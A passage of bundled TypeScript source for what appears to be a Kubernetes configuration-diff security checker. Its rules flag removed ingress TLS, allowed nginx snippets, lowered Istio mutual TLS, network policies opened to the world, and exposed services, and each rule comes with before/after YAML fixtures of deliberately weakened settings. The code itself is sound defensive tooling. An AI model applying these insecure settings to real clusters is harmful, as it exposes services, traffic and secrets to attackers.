    governs: itemOfKind("Ingress", "spec", "rules", "http", "paths"),
    rank: () => 1,
    absent: 0,
    lostTogether: true,
    outcomes: { drop: { risk: "medium", message: (c) => `The path ${removal3(c)}.` } },
    refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
    examples: [
      { before: paths("/api", "/admin"), after: paths("/api"), outcome: "drop" },
      { before: paths("/api"), after: paths("/api", "/admin"), outcome: "none" },
      { before: paths("/api", "/admin"), after: paths("/admin", "/api"), outcome: "none" }
    ]
  }),
  control({
    id: "config/ingress-path-added",
    class: "exposure",
    title: "ingress serves a new path",
    why: "Whoever reaches the host now reaches what lies behind the path.",
    fix: "Check that the service behind it may be reached from outside.",
    dialect: "kubernetes",
    governs: itemOfKind("Ingress", "spec", "rules", "http", "paths"),
    rank: () => 0,
    absent: 1,
    outcomes: { open: { risk: "low", message: (c) => `The path \`${c.name}\` is new.` } },
    examples: [
      { before: paths("/api"), after: paths("/api", "/admin"), outcome: "open" },
      { before: "", after: paths("/api"), outcome: "none" },
      { before: paths("/api", "/admin"), after: paths("/api"), outcome: "none" }
    ]
  }),
  control({
    id: "config/client-address-lost",
    class: "observability",
    title: "address of the client lost",
    why: "The pods see the address of a node: logs, limits and allow lists by address stop working.",
    fix: "Keep `externalTrafficPolicy: Local`.",
    dialect: "kubernetes",
    governs: ofKind("Service", "spec", "externalTrafficPolicy"),
    rank: unless("Cluster"),
    ...safeWhenSet({
      risk: "low",
      praise: "address of the client kept",
      weak: "externalTrafficPolicy: Cluster",
      safe: "externalTrafficPolicy: Local",
      file: object("v1", "Service")
    })
  })
];

// src/domains/config/rules/network/ingress-tls.ts
var ingress4 = object("networking.k8s.io/v1", "Ingress");
var covered = (hosts2, served2 = "b") => ingress4(`tls: [{ hosts: [${hosts2}], secretName: shop-tls }]
rules: [{ host: a }, { host: ${served2} }]`);
var TLS = "tls: [{ hosts: [shop.example.com], secretName: shop-tls }]";
var covers4 = (name, host) => name === host || name.startsWith("*.") && host.slice(host.indexOf(".")) === name.slice(1);
var inValues2 = ({ keys, document }) => document.dialect === "helm-values" && keys.at(-1) === "tls" && /ingress$/i.test(keys.at(-2) ?? "");
var isCalledOtherwise = ({ document: { before: before3, after } }) => after?.isTemplate === true && itemsAt(after.root, "spec", "tls").length >= itemsAt(before3?.root, "spec", "tls").length;
var ingress_tls_default = [
  control({
    id: "config/ingress-tls-removed",
    class: "encryption-disabled",
    title: "ingress no longer encrypts",
    why: "Passwords and sessions of its users cross the network in clear text, or browsers refuse the host.",
    fix: "Keep the `tls` entry for as long as the host is served.",
    dialect: MANIFESTS,
    governs: either(
      ofKind("Ingress", "spec", "tls"),
      (setting) => itemOfKind("Ingress", "spec", "tls")(setting) && !isCalledOtherwise(setting),
      inValues2
    ),
    rank: (node) => node.kind === "list" ? Number(node.items.length > 0) : present(node),
    absent: 0,
    outcomes: {
      drop: removed("high", "`tls` entry of the ingress"),
      hardened: added("ingress now encrypts", "`tls` entry")
    },
    examples: [
      { before: ingress4(TLS), after: ingress4(), outcome: "drop" },
      {
        before: ingress4("tls: [{ hosts: [a.example.com] }, { hosts: [b.example.com] }]"),
        after: ingress4("tls: [{ hosts: [a.example.com] }]"),
        outcome: "drop"
      },
      { path: "values.yaml", before: `ingress: { ${TLS} }`, after: "ingress: { tls: [] }", outcome: "drop" },
      { before: ingress4(), after: ingress4(TLS), outcome: "hardened" },
      { before: ingress4(TLS), after: "", outcome: "none" }
    ]
  }),
  control({
    id: "config/ingress-host-uncovered",
    class: "encryption-disabled",
    title: "host of an ingress no longer encrypted",
    why: "The ingress still serves the host, with a certificate that is not its own: browsers refuse it, or users click on.",
    fix: "Keep the host in the `tls` entry for as long as it is served.",
    dialect: MANIFESTS,
    governs: ofKind("Ingress", "spec", "tls", "hosts"),
    rank: (node, { before: before3, document }) => {
      const [had, has2] = [textsOf(before3), textsOf(node)];
      const served2 = itemsAt(document.after?.root, "spec", "rules").flatMap((rule) => textAt(rule, "host") ?? []);
      return Number(had.every((host) => !served2.includes(host) || has2.some((name) => covers4(name, host))));
    },
    outcomes: { flip: moved2("high") },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { before: covered("a, b"), after: covered("a"), outcome: "flip" },
      { before: covered("a, c"), after: covered("a"), outcome: "none" },
      { before: covered("a"), after: covered("b, a"), outcome: "none" },
      { before: covered("a.io", "a.io"), after: covered('"*.io"', "a.io"), outcome: "none" },
      { before: covered("a.b.io", "a.b.io"), after: covered('"*.io"', "a.b.io"), outcome: "flip" }
    ]
  })
];

// src/domains/config/rules/network/ingresses.ts
var noted = annotated("networking.k8s.io/v1", "Ingress");
var nginx = (name) => `nginx.ingress.kubernetes.io/${name}`;
var inController = (...names2) => ({ keys, document }) => keys[0] === "data" && names2.includes(keys[1] ?? "") && /ingress|nginx/.test(nameOfConfig(document.after));
var nameOfConfig = (document) => kindOf(document) === "ConfigMap" ? (document && nameOf2(document)) ?? "" : "";
var blocks3 = (node) => textsOf(node).flatMap((text) => text.split(/,\s*/));
function asksAsMany(node, { before: before3 }) {
  const isEmpty2 = node.kind !== "scalar" || node.text === "";
  return Number(!isEmpty2 && !letsInMore(blocks3(before3 ?? node), blocks3(node)));
}
var ingresses_default = [
  control({
    id: "config/ingress-redirect-off",
    class: "encryption-disabled",
    title: "plain http no longer redirected",
    why: "Whoever follows an old link sends the request, cookies included, in clear text.",
    fix: "Set the redirect to `true` again.",
    dialect: MANIFESTS,
    governs: either(
      annotation(...["ssl-redirect", "force-ssl-redirect", "hsts"].map(nginx)),
      inController("hsts", "ssl-redirect")
    ),
    rank: safeOn,
    outcomes: {
      flip: moved2("medium"),
      open: moved2("medium"),
      drop: moved2("low"),
      hardened: hardened("plain http now redirected")
    },
    examples: [
      {
        before: noted(`${nginx("ssl-redirect")}: "true"`),
        after: noted(`${nginx("ssl-redirect")}: "false"`),
        outcome: "flip"
      },
      { before: noted(), after: noted(`${nginx("ssl-redirect")}: "false"`), outcome: "open" },
      { before: noted(`${nginx("force-ssl-redirect")}: "true"`), after: noted(), outcome: "drop" },
      {
        before: noted(`${nginx("ssl-redirect")}: "false"`),
        after: noted(`${nginx("ssl-redirect")}: "true"`),
        outcome: "hardened"
      },
      { before: noted(), after: noted(`${nginx("ssl-redirect")}: "true"`), outcome: "none" }
    ]
  }),
  control({
    id: "config/ingress-guard-removed",
    class: "exposure",
    title: "ingress no longer asks who comes in",
    why: "Requests that were turned away or sent to sign in now reach the service.",
    fix: "Keep the annotation, or put the check into the service first.",
    dialect: MANIFESTS,
    governs: annotation(
      ...["whitelist-source-range", "allowlist-source-range", "auth-url", "auth-type", "auth-tls-secret"].map(nginx)
    ),
    rank: asksAsMany,
    absent: 0,
    outcomes: { flip: moved2("high"), drop: moved2("high"), hardened: hardened("ingress now asks who comes in") },
    examples: [
      {
        before: noted(`${nginx("whitelist-source-range")}: 10.0.0.0/8`),
        after: noted(`${nginx("whitelist-source-range")}: 0.0.0.0/0`),
        outcome: "flip"
      },
      { before: noted(`${nginx("auth-url")}: https://login.example.com`), after: noted(), outcome: "drop" },
      { before: noted(), after: noted(`${nginx("auth-type")}: basic`), outcome: "hardened" },
      {
        before: noted(`${nginx("whitelist-source-range")}: 10.0.0.0/8`),
        after: noted(`${nginx("whitelist-source-range")}: 10.1.0.0/16`),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/ingress-client-certificate",
    class: "permission-widening",
    title: "client certificates no longer required",
    why: "Callers without a certificate now reach the service.",
    fix: "Set it to `on` again.",
    dialect: MANIFESTS,
    governs: annotation(nginx("auth-tls-verify-client")),
    rank: safeOn,
    ...safeWhenSet({
      risk: "high",
      praise: "client certificates now required",
      weak: `${nginx("auth-tls-verify-client")}: "off"`,
      safe: `${nginx("auth-tls-verify-client")}: "on"`,
      file: noted
    })
  }),
  control({
    id: "config/ingress-snippet",
    class: "permission-widening",
    title: "ingress brings its own nginx configuration",
    why: "A snippet runs in the controller, which reads the secrets of all namespaces; who may edit the ingress may read them.",
    fix: "Use an annotation made for the purpose instead of a snippet.",
    equivalents: ["checkov:CKV_K8S_152", "checkov:CKV_K8S_153", "checkov:CKV_K8S_154"],
    dialect: MANIFESTS,
    governs: annotation(...["configuration-snippet", "server-snippet", "auth-snippet", "stream-snippet"].map(nginx)),
    rank: () => 0,
    absent: 1,
    outcomes: {
      open: { risk: "high", message: (c) => `\`${c.name}\` is new.` },
      born: { risk: "medium", message: (c) => `A new ingress has a \`${c.name}\`.` },
      hardened: { ...hardened("ingress snippet removed"), message: (c) => `\`${c.name}\` was removed.` }
    },
    examples: [
      { before: noted(), after: noted(`${nginx("server-snippet")}: deny all;`), outcome: "open" },
      { before: "", after: noted(`${nginx("server-snippet")}: deny all;`), outcome: "born" },
      { before: noted(`${nginx("server-snippet")}: deny all;`), after: noted(), outcome: "hardened" },
      {
        before: noted(`${nginx("server-snippet")}: deny all;`),
        after: noted(`${nginx("server-snippet")}: "deny all;"`),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/ingress-snippets-allowed",
    class: "permission-widening",
    title: "ingress controller takes snippets",
    why: "Whoever may write an ingress may run code in the controller, which reads the secrets of all namespaces (CVE-2021-25742).",
    fix: "Keep it `false`, and use annotations made for the purpose.",
    dialect: MANIFESTS,
    governs: either(inController("allow-snippet-annotations"), ({ keys }) => keys.at(-1) === "allowSnippetAnnotations"),
    rank: safeOff,
    ...weakWhenSet({
      risk: "high",
      praise: "ingress controller takes no snippets",
      weak: "allowSnippetAnnotations: true",
      safe: "allowSnippetAnnotations: false",
      path: "charts/ingress-nginx/values.yaml",
      file: (text) => `controller:
  name: web
  ${text}
`
    })
  }),
  control({
    id: "config/ingress-backend-plain",
    class: "encryption-disabled",
    title: "traffic to the service no longer encrypted",
    why: "From the ingress to the pods, requests cross the cluster network in clear text.",
    fix: "Keep `HTTPS` or `GRPCS`.",
    dialect: MANIFESTS,
    governs: annotation(nginx("backend-protocol")),
    rank: (node) => node.kind === "scalar" ? Number(/^(?:HTTPS|GRPCS)$/i.test(node.text)) : void 0,
    ...safeWhenSet({
      risk: "high",
      praise: "traffic to the service now encrypted",
      weak: `${nginx("backend-protocol")}: HTTP`,
      safe: `${nginx("backend-protocol")}: HTTPS`,
      file: noted
    })
  })
];

// src/domains/config/rules/network/mesh.ts
var dialect21 = "kubernetes";
var peers = object("security.istio.io/v1", "PeerAuthentication");
var destination = object("networking.istio.io/v1", "DestinationRule");
var telemetry = object("install.istio.io/v1alpha1", "IstioOperator");
var within3 = (kind, holds4) => (setting) => kindOf(setting.document.after ?? setting.document.before) === kind && holds4(setting);
var modeRank = ordered(MUTUAL_TLS);
function inherited2({ keys, document }) {
  const mode = at((document.after ?? document.before)?.root, "spec", "mtls", "mode");
  if (!keys.includes("portLevelMtls")) return MUTUAL_TLS.length - 1 - MUTUAL_TLS.indexOf("PERMISSIVE");
  return mode && modeRank(mode);
}
var mesh_default = [
  control({
    id: "config/mesh-mutual-tls",
    class: "encryption-disabled",
    title: "mutual TLS of the mesh lowered",
    why: "Callers without a certificate are let in, and traffic between pods may cross the network in clear text.",
    fix: "Keep `STRICT`; exempt the single port that cannot.",
    dialect: dialect21,
    governs: within3(
      "PeerAuthentication",
      either(atEnd("mtls", "mode"), ({ keys }) => keys.includes("portLevelMtls"))
    ),
    rank: modeRank,
    absent: inherited2,
    outcomes: {
      disabled: moved2("critical"),
      permissive: moved2("high"),
      unset: moved2("medium"),
      hardened: hardened("mutual TLS of the mesh raised")
    },
    refine: ({ transition, to }) => {
      if (transition === "hardened") return "hardened";
      if (transition === "drop") return "unset";
      if (transition === "born" || transition === "template") return void 0;
      return to === "DISABLE" ? "disabled" : "permissive";
    },
    examples: [
      { before: peers("mtls: { mode: STRICT }"), after: peers("mtls: { mode: DISABLE }"), outcome: "disabled" },
      { before: peers("mtls: { mode: STRICT }"), after: peers("mtls: { mode: PERMISSIVE }"), outcome: "permissive" },
      { before: peers("mtls: { mode: STRICT }"), after: peers(), outcome: "unset" },
      { before: peers("mtls: { mode: PERMISSIVE }"), after: peers("mtls: { mode: STRICT }"), outcome: "hardened" },
      {
        before: peers("mtls: { mode: STRICT }"),
        after: peers("mtls: { mode: STRICT }\nportLevelMtls: { 80: { mode: DISABLE } }"),
        outcome: "disabled"
      },
      {
        before: peers("mtls: { mode: STRICT }"),
        after: peers("mtls: { mode: STRICT }\nportLevelMtls: { 80: { mode: PERMISSIVE } }"),
        outcome: "permissive"
      },
      {
        before: peers("mtls: { mode: STRICT }\nportLevelMtls: { 80: { mode: PERMISSIVE } }"),
        after: peers("mtls: { mode: STRICT }"),
        outcome: "hardened"
      },
      { before: peers("mtls: { mode: STRICT }"), after: peers('mtls: { mode: "STRICT" }'), outcome: "none" },
      { before: peers("mtls: { mode: PERMISSIVE }"), after: peers(), outcome: "none" }
    ]
  }),
  control({
    id: "config/mesh-client-tls",
    class: "encryption-disabled",
    title: "calls to a service less protected",
    why: "Requests to the service may cross the network in clear text, or without proof of who calls.",
    fix: "Keep `ISTIO_MUTUAL`.",
    dialect: dialect21,
    governs: within3("DestinationRule", atEnd("tls", "mode")),
    // MUTUAL and ISTIO_MUTUAL differ in who brings the certificate only.
    rank: (node) => {
      const rank2 = ordered(CLIENT_TLS)(node);
      return rank2 === void 0 ? void 0 : Math.min(rank2, 2);
    },
    outcomes: { flip: moved2("high"), drop: moved2("medium"), hardened: hardened("calls to a service better protected") },
    examples: [
      {
        before: destination("trafficPolicy: { tls: { mode: ISTIO_MUTUAL } }"),
        after: destination("trafficPolicy: { tls: { mode: DISABLE } }"),
        outcome: "flip"
      },
      { before: destination("trafficPolicy: { tls: { mode: SIMPLE } }"), after: destination(), outcome: "drop" },
      {
        before: destination("trafficPolicy: { tls: { mode: DISABLE } }"),
        after: destination("trafficPolicy: { tls: { mode: SIMPLE } }"),
        outcome: "hardened"
      },
      {
        before: destination("trafficPolicy: { tls: { mode: MUTUAL } }"),
        after: destination("trafficPolicy: { tls: { mode: ISTIO_MUTUAL } }"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/mesh-outbound",
    class: "exposure",
    title: "pods of the mesh may call anywhere",
    why: "A pod that is taken over can now send data to any host outside.",
    fix: "Keep `REGISTRY_ONLY`, and register the hosts that pods need.",
    governs: atEnd("outboundTrafficPolicy", "mode"),
    rank: (node) => node.kind === "scalar" ? Number(!node.text.startsWith("ALLOW_ANY")) : void 0,
    outcomes: {
      flip: moved2("medium"),
      drop: moved2("medium"),
      hardened: hardened("pods of the mesh call known hosts only")
    },
    examples: [
      {
        before: telemetry("meshConfig: { outboundTrafficPolicy: { mode: REGISTRY_ONLY } }"),
        after: telemetry("meshConfig: { outboundTrafficPolicy: { mode: ALLOW_ANY } }"),
        outcome: "flip"
      },
      {
        before: telemetry("meshConfig: { outboundTrafficPolicy: { mode: REGISTRY_ONLY } }"),
        after: telemetry(),
        outcome: "drop"
      },
      {
        before: telemetry("meshConfig: { outboundTrafficPolicy: { mode: ALLOW_ANY } }"),
        after: telemetry("meshConfig: { outboundTrafficPolicy: { mode: REGISTRY_ONLY } }"),
        outcome: "hardened"
      },
      {
        before: telemetry("meshConfig: { outboundTrafficPolicy: { mode: ALLOW_ANY } }"),
        after: telemetry("meshConfig: { outboundTrafficPolicy: { mode: ALLOW_ANY_DYNAMIC_DNS } }"),
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/rules/network/network-policies.ts
var policy3 = (spec) => `apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: db }
spec:
  podSelector: { matchLabels: { app: db } }
${spec}
`;
var cilium = (entities) => `apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: { name: api }
spec:
  endpointSelector: { matchLabels: { app: api } }
  ingress:
    - toPorts: [{ ports: [{ port: "8080" }] }]
      ${entities}
`;
var from2 = (peers2, ports2 = ", ports: [{ port: 5432 }]") => policy3(`  policyTypes: [Ingress]
  ingress:
    - { from: [${peers2}]${ports2} }`);
var WEB2 = "{ podSelector: { matchLabels: { app: web } } }";
var ANY_NAMESPACE = "{ namespaceSelector: {} }";
var through = ({ peer, ports: ports2 }) => `${named3(peer)} on ${ports2 === void 0 ? "all ports" : `\`${ports2}\``}`;
function named3({ block: block2, pods, namespaces }) {
  if (block2 !== void 0) return `\`${block2}\``;
  if (pods === void 0) return "everyone";
  const who = pods === "" ? "all pods" : `pods \`${pods}\``;
  if (namespaces === void 0) return who;
  return namespaces === "" ? `${who} of all namespaces` : `${who} of namespaces \`${namespaces}\``;
}
var side = { Ingress: "lets in", Egress: "lets out to" };
var network_policies_default = [
  configRule({
    id: "config/network-policy-opened",
    on: "network-opened",
    class: "exposure",
    title: "network policy lets more through",
    why: "Pods that were kept apart can now connect, and so can whoever takes one of them over.",
    fix: "Name the peers and ports that need it.",
    outcomes: {
      released: {
        risk: "high",
        title: "network policy gives up a direction",
        message: (c) => `\`${c.policy}\` no longer limits \`${c.direction}\` traffic at all.`,
        why: "With the direction left out of the policy, every connection is allowed there.",
        fix: "List the direction under `policyTypes` again."
      },
      everyone: { risk: "high", message: (c) => `\`${c.policy}\` now ${side[c.direction]} ${through(c)}.` },
      "all-ports": { risk: "high", message: (c) => `\`${c.policy}\` now ${side[c.direction]} ${through(c)}.` },
      "all-namespaces": { risk: "medium", message: (c) => `\`${c.policy}\` now ${side[c.direction]} ${through(c)}.` },
      peer: { risk: "low", message: (c) => `\`${c.policy}\` now ${side[c.direction]} ${through(c)}.` }
    },
    examples: [
      { before: from2(WEB2), after: policy3("  policyTypes: []\n  egress: []"), outcome: "none" },
      { before: from2(WEB2), after: policy3("  policyTypes: [Egress]\n  egress: []"), outcome: "released" },
      { before: from2(WEB2), after: from2("{ ipBlock: { cidr: 0.0.0.0/0 } }"), outcome: "everyone" },
      { before: from2(WEB2), after: policy3("  policyTypes: [Ingress]\n  ingress: [{}]"), outcome: "everyone" },
      { before: from2(WEB2), after: from2(WEB2, ""), outcome: "all-ports" },
      { before: from2(WEB2), after: from2(`${WEB2}, ${ANY_NAMESPACE}`), outcome: "all-namespaces" },
      { before: from2(WEB2), after: from2(`${WEB2}, { podSelector: { matchLabels: { app: job } } }`), outcome: "peer" },
      { before: from2(`${WEB2}, ${ANY_NAMESPACE}`), after: from2(`${ANY_NAMESPACE}, ${WEB2}`), outcome: "none" },
      { before: "", after: from2("{ ipBlock: { cidr: 0.0.0.0/0 } }"), outcome: "none" }
    ],
    classify: ({ released, reach: reach4, ports: ports2, isKnownPeer }) => {
      if (released) return "released";
      if (reach4 === "everyone" || reach4 === "all-namespaces") return reach4;
      return ports2 === void 0 && isKnownPeer ? "all-ports" : "peer";
    }
  }),
  configRule({
    id: "config/network-policy-narrowed",
    on: "network-policy-narrowed",
    class: "exposure",
    title: "network policy protects fewer pods",
    why: "The pods it no longer selects are open to everyone, unless another policy selects them.",
    fix: "Keep the wider selector, or add a policy for the others.",
    outcomes: {
      narrowed: { risk: "medium", message: (c) => `\`${c.policy}\` now protects only pods with \`${c.labels}\`.` }
    },
    examples: [
      { before: from2(WEB2), after: from2(WEB2).replace("app: db", "app: db, tier: back"), outcome: "narrowed" },
      { before: from2(WEB2).replace("app: db", "app: db, tier: back"), after: from2(WEB2), outcome: "none" },
      { before: from2(WEB2), after: from2(WEB2).replace("app: db", "app: store"), outcome: "none" }
    ],
    classify: () => "narrowed"
  }),
  configRule({
    id: "config/network-policy-closed",
    on: "network-closed",
    class: "hardening",
    title: "network policy lets less through",
    why: "Fewer pods and addresses can connect.",
    fix: "Check that nothing still relies on what is now refused.",
    outcomes: {
      closed: {
        risk: "info",
        message: (c) => `\`${c.policy}\` allows less \`${c.direction}\` traffic, and nothing new.`
      }
    },
    examples: [
      { before: from2(`${WEB2}, ${ANY_NAMESPACE}`), after: from2(WEB2), outcome: "closed" },
      { before: from2(WEB2), after: from2(`${WEB2}, ${ANY_NAMESPACE}`), outcome: "none" }
    ],
    classify: () => "closed"
  }),
  control({
    id: "config/network-policy-world",
    class: "exposure",
    title: "network policy lets the world in",
    why: "Every address that routes to the pods may connect to them.",
    fix: "Name `cluster`, or the endpoints and networks that need it.",
    dialect: "kubernetes",
    governs: ({ keys }) => keys.at(-1) === "fromEntities",
    rank: (node) => Number(!textsOf(node).some((entity) => entity === "world" || entity === "all")),
    absent: 1,
    outcomes: {
      flip: moved2("high"),
      open: moved2("high"),
      born: moved2("medium"),
      hardened: hardened("network policy keeps the world out")
    },
    examples: [
      { before: cilium("fromEntities: [cluster]"), after: cilium("fromEntities: [world]"), outcome: "flip" },
      { before: cilium(""), after: cilium("fromEntities: [all]"), outcome: "open" },
      { before: "", after: cilium("fromEntities: [world]"), outcome: "born" },
      { before: cilium("fromEntities: [world, host]"), after: cilium("fromEntities: [host]"), outcome: "hardened" },
      { before: cilium("fromEntities: [cluster]"), after: cilium("fromEntities: [host]"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/network/service-contracts.ts
var service3 = object("v1", "Service");
var portOf = (node) => `${textAt(node, "port") ?? ""}/${textAt(node, "protocol") ?? "TCP"}`;
function calledPort(node) {
  const [name, protocol] = [textAt(node, "name"), textAt(node, "protocol") ?? "TCP"];
  const number = `${textAt(node, "port") ?? "?"}${protocol === "TCP" ? "" : `/${protocol}`}`;
  return shorten(name === void 0 ? number : `${name} (${number})`, LONGEST13);
}
var LONGEST13 = 63;
var isStillServed = (node, { document }) => itemsAt(document.after?.root, "spec", "ports").some((each) => portOf(each) === portOf(node));
var isNumberedByTemplate = (node, { document }) => isDynamic(at(node, "port")) && itemsAt(document.after?.root, "spec", "ports").some((each) => isDynamic(at(each, "port")));
var isNamedByTemplate = (node, { document }) => itemsAt(document.after?.root, "spec", "ports").some(
  (each) => portOf(each) === portOf(node) && (textAt(each, "name") ?? "").includes("{{")
);
var service_contracts_default = [
  control({
    id: "config/service-port-changed",
    class: "compatibility",
    title: "service port changed",
    why: "Whoever calls the service on the old port is refused.",
    fix: "Serve both ports until all callers have moved.",
    dialect: MANIFESTS,
    governs: either(...["port", "protocol", "nodePort"].map((name) => ofKind("Service", "spec", "ports", name))),
    rank: untouched,
    outcomes: {
      flip: moved2("high"),
      node: {
        ...moved2("medium"),
        title: "port on the nodes changed",
        why: "Load balancers and firewalls that send requests to the old port of the nodes are refused."
      }
    },
    refine: ({ transition, subject }) => {
      if (transition !== "flip") return void 0;
      return subject.endsWith("nodePort") ? "node" : "flip";
    },
    examples: [
      {
        before: service3("ports: [{ name: http, port: 80 }]"),
        after: service3("ports: [{ name: http, port: 8080 }]"),
        outcome: "flip"
      },
      {
        before: service3("ports: [{ name: dns, port: 53, protocol: UDP }]"),
        after: service3("ports: [{ name: dns, port: 53, protocol: TCP }]"),
        outcome: "flip"
      },
      {
        before: service3("ports: [{ name: http, port: 80, nodePort: 30080 }]"),
        after: service3("ports: [{ name: http, port: 80, nodePort: 30081 }]"),
        outcome: "node"
      },
      {
        before: service3("ports: [{ name: http, port: 80, targetPort: 80 }]"),
        after: service3("ports: [{ name: http, port: 80, targetPort: 8080 }]"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/service-port-removed",
    class: "compatibility",
    title: "service port removed",
    why: "Whoever calls the service on that port is refused.",
    fix: "Keep the port until no caller uses it.",
    dialect: MANIFESTS,
    governs: itemOfKind("Service", "spec", "ports"),
    rank: (node, setting) => isStillServed(node, setting) || isNumberedByTemplate(node, setting) ? void 0 : 1,
    tell: calledPort,
    outcomes: { drop: { risk: "high", message: (c) => `The port \`${c.from ?? ""}\` of the service was removed.` } },
    refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
    examples: [
      {
        before: service3("ports: [{ name: http, port: 80 }, { name: admin, port: 9000 }]"),
        after: service3("ports: [{ name: http, port: 80 }]"),
        outcome: "drop"
      },
      {
        before: service3("ports: [{ name: http, port: 80 }]"),
        after: service3("ports: [{ name: web, port: 80 }]"),
        outcome: "none"
      },
      {
        before: service3("ports: [{ name: http, port: 80 }]"),
        after: service3("ports: [{ name: http, port: 80 }, { name: admin, port: 9000 }]"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/service-port-renamed",
    class: "compatibility",
    title: "service port renamed",
    why: "Ingresses, monitors and meshes that find the port by its name no longer find it.",
    fix: "Keep the name, or change those who use it in the same step.",
    dialect: MANIFESTS,
    governs: either(itemOfKind("Service", "spec", "ports"), ofKind("Service", "spec", "ports", "name")),
    rank: (node, setting) => node.kind === "scalar" ? untouched(node, setting) : isStillServed(node, setting) && !isNamedByTemplate(node, setting) ? 1 : void 0,
    absent: 0,
    // Ports are called otherwise together, for those who look for them.
    cause: () => "names of ports",
    outcomes: {
      flip: moved2("medium"),
      drop: { risk: "medium", message: (c) => `The port \`${c.name}\` has another name.` }
    },
    refine: ({ transition }) => transition === "drop" || transition === "flip" ? transition : void 0,
    examples: [
      {
        before: service3("ports: [{ name: http, port: 80 }, { name: a, port: 1 }]"),
        after: service3("ports: [{ name: web, port: 80 }, { name: a, port: 1 }]"),
        outcome: "drop"
      },
      {
        before: service3("ports: [{ name: http, port: 80, targetPort: 80, protocol: TCP }]"),
        after: service3("ports: [{ name: web, port: 80, targetPort: 80, protocol: TCP }]"),
        outcome: "flip"
      },
      { before: service3("ports: [{ port: 80 }]"), after: service3("ports: [{ port: 80, name: web }]"), outcome: "none" },
      {
        path: "charts/web/templates/service.yaml",
        before: service3("ports:\n    - { name: http, port: 80 }\n    - { name: a, port: 1 }"),
        after: service3('ports:\n    - { name: "{{ .Values.portName }}", port: 80 }\n    - { name: a, port: 1 }'),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/service-selector",
    class: "compatibility",
    title: "service selects other pods",
    why: "The pods it sent requests to drop out at once; if no pod has the new labels, it answers nobody.",
    fix: "Check that running pods carry the new labels before the service asks for them.",
    dialect: "kubernetes",
    governs: (setting) => isEffective("selector")(setting) && kindOf(setting.document.after) === "Service",
    rank: sameText,
    outcomes: {
      others: moved2("medium"),
      wider: {
        ...moved2("low"),
        title: "service selects more pods",
        why: "Pods that have the labels left over get requests too."
      }
    },
    refine: ({ from: from3 = "", to = "", transition }) => {
      if (transition === "template") return void 0;
      const asked4 = new Set(from3.split(", "));
      return to.split(", ").every((label2) => asked4.has(label2)) ? "wider" : "others";
    },
    examples: [
      { before: service3("selector: { app: web }"), after: service3("selector: { app: shop }"), outcome: "others" },
      {
        before: service3("selector: { app: web, tier: a }"),
        after: service3("selector: { app: web }"),
        outcome: "wider"
      },
      {
        before: service3("selector: { app: web }"),
        after: service3("selector: { app: web, tier: a }"),
        outcome: "others"
      },
      {
        before: service3("selector: { app: web, tier: a }"),
        after: service3("selector: { tier: a, app: web }"),
        outcome: "none"
      },
      { before: "", after: service3("selector: { app: web }"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/network/services.ts
var service4 = object("v1", "Service");
var internal = annotated("v1", "Service");
var AWS = "service.beta.kubernetes.io/aws-load-balancer-internal";
function noWider(node, { before: before3 }) {
  const [known2, listed6] = [textsOf(before3), textsOf(node)];
  return Number(listed6.length > 0 && !letsInMore(known2.length === 0 ? listed6 : known2, listed6));
}
function addresses(node, { before: before3 }) {
  const known2 = new Set(textsOf(before3));
  const fresh = textsOf(node).filter((text) => !known2.has(text));
  return -(node === before3 || fresh.length === 0 ? textsOf(node).length : known2.size + fresh.length);
}
var services_default2 = [
  control({
    id: "config/service-exposed",
    class: "exposure",
    title: "service opened to the outside",
    why: "A load balancer gives the service an address that the world can reach, unless something else keeps it out.",
    fix: "Keep `ClusterIP` and publish through an Ingress, or make the load balancer internal.",
    equivalents: ["kube-linter:exposed-services"],
    dialect: MANIFESTS,
    governs: either(ofKind("Service", "spec", "type"), atEnd("service", "type")),
    rank: ordered(SERVICE_REACH),
    absent: 2,
    outcomes: {
      balancer: moved2("high"),
      "new-balancer": { ...moved2("medium"), title: "new service open to the outside" },
      nodes: { ...moved2("medium"), why: "Every node of the cluster now answers on a port for this service." },
      "new-nodes": {
        ...moved2("low"),
        title: "new service open on every node",
        why: "Every node of the cluster answers on a port for this service."
      },
      hardened: hardened("service no longer open to the outside")
    },
    refine: ({ transition, to }) => {
      if (transition === "template") return void 0;
      if (transition === "hardened") return "hardened";
      if (transition === "born") return to === "LoadBalancer" ? "new-balancer" : "new-nodes";
      return to === "LoadBalancer" ? "balancer" : "nodes";
    },
    examples: [
      { before: service4("type: ClusterIP"), after: service4("type: LoadBalancer"), outcome: "balancer" },
      { before: service4(), after: service4("type: LoadBalancer"), outcome: "balancer" },
      { before: "", after: service4("type: LoadBalancer"), outcome: "new-balancer" },
      { before: service4("type: ClusterIP"), after: service4("type: NodePort"), outcome: "nodes" },
      { before: "", after: service4("type: NodePort"), outcome: "new-nodes" },
      { before: service4("type: LoadBalancer"), after: service4("type: ClusterIP"), outcome: "hardened" },
      { before: service4("type: ClusterIP"), after: service4(), outcome: "none" },
      {
        path: "values.yaml",
        before: "service:\n  type: ClusterIP\n",
        after: "service:\n  type: NodePort\n",
        outcome: "nodes"
      }
    ]
  }),
  control({
    id: "config/service-external-name",
    class: "exposure",
    title: "service sends its callers outside",
    why: "Whoever calls the service is sent to the other name: requests and credentials leave the cluster.",
    fix: "Keep the service on pods of the cluster, and call the other name by itself.",
    dialect: MANIFESTS,
    governs: either(ofKind("Service", "spec", "type"), atEnd("service", "type")),
    rank: unless("ExternalName"),
    absent: 1,
    outcomes: { flip: moved2("high"), open: moved2("high"), hardened: hardened("service stays in the cluster") },
    refine: ({ transition }) => transition === "flip" || transition === "open" || transition === "hardened" ? transition : void 0,
    examples: [
      { before: service4("type: ClusterIP"), after: service4("type: ExternalName"), outcome: "flip" },
      { before: service4(), after: service4("type: ExternalName"), outcome: "open" },
